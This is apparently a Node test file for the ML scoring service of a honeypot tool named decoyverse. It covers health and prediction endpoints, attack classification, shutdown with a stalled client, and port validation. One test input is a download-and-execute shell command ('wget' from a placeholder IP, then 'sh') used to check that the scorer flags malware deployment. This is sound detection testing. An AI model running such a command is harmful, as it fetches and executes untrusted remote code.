import assert from 'node:assert/strict';
import { once } from 'node:events';
import { connect } from 'node:net';
import { describe, it } from 'node:test';
import { createRemoteScorer } from '../../src/score/remote-scorer.ts';
import { createPlace, stop } from '../support/command-line.ts';
import { ask, command } from '../support/score/events.ts';

describe('decoyverse ml', () => {
  it('serves predictions, to clients of old and to a server of ours', async (t) => {
    const running = createPlace(t).start(['ml', '--port', '0']);
    const [, address = ''] = await running.saw(/listening on (http:\/\/\S+)/);
    const health = (await (await fetch(`${address}/health`)).json()) as { status: string };
    assert.equal(health.status, 'healthy');
    const answer = await fetch(`${address}/predict`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({
        failed_logins: 120,
        request_rate: 200,
        commands_count: 0,
        sql_payload: 0,
        honeytoken_access: 0,
        session_time: 600,
      }),
    });
    assert.equal(((await answer.json()) as { attack_type: string }).attack_type, 'BruteForce');

    const remote = createRemoteScorer({ url: address, limitMs: 20_000 });
    t.after(() => remote.close());
    const verdict = await remote.judge(ask(command('cd /tmp; wget http://198.51.100.7/x; sh x')));
    assert.equal(verdict.scored_by, 'ml_api');
    assert.equal(verdict.attack_type, 'MalwareDeployment');
    assert.ok(verdict.risk_score >= 8);
    assert.ok(verdict.evidence.length > 0);
    assert.equal((await stop(running)).code, 0);
  });

  it('ends although a client never finishes its request', async (t) => {
    const running = createPlace(t).start(['ml', '--port', '0']);
    const [, port = ''] = await running.saw(/listening on http:\/\/\S+:(\d+)/);
    const socket = connect(Number(port), '127.0.0.1');
    socket.on('error', () => undefined);
    await once(socket, 'connect');
    socket.write('POST /predict HTTP/1.1\r\nHost: x\r\nContent-Length: 999\r\n\r\n');
    const drip = setInterval(() => socket.write(' '), 500);
    t.after(() => clearInterval(drip));
    t.after(() => socket.destroy());
    assert.equal((await stop(running)).code, 0);
  });

  it('refuses a port that is none', async (t) => {
    const { code, stderr } = await createPlace(t).run(['ml', '--port', 'x']);
    assert.equal(code, 2);
    assert.match(stderr, /^error: .*port/m);
  });
});
